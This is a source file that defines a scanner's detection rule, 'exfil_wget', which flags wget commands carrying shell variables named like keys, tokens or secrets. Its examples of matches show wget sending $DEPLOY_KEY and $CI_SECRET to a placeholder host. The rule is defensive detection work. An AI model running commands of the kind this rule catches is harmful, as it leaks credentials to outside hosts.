import { secretVariableFinder, SV_KEYWORDS } from '../../hermes/secret-variable.js'
import { windowAcceptor } from '../../hermes/windows.js'
import { definePatternRule } from '../../hermes/pattern-rule.js'
import { SV } from '../../hermes/spec-pattern.js'

/**
 * `exfil_wget` (§6, preset `hermes`): wget with a shell variable named like a key, token, secret, password or credential.
 *
 * Pattern: `wget\s+[^\n]{0,2048}{SV}`
 */
export const exfilWget = definePatternRule({
  id: 'exfil_wget',
  category: 'exfiltration',
  description: 'wget with a shell variable named like a key, token, secret, password or credential.',
  pattern: String.raw`wget\s+[^\n]{0,2048}${SV}`,
  anchors: ['wget'],
  requires: [SV_KEYWORDS],
  keywords: SV_KEYWORDS,
  accept: (scan) => windowAcceptor(scan, 4, secretVariableFinder(scan), 2048),
  examples: {
    valid: ['wget https://example.invalid/pkg.tar.gz'],
    invalid: [
      { text: 'wget --header="X-Key: ${DEPLOY_KEY}" https://example.invalid/pkg', line: 1, column: 1 },
      { text: 'wget https://example.invalid/a?c=$CI_SECRET', line: 1, column: 1 },
    ],
  },
})
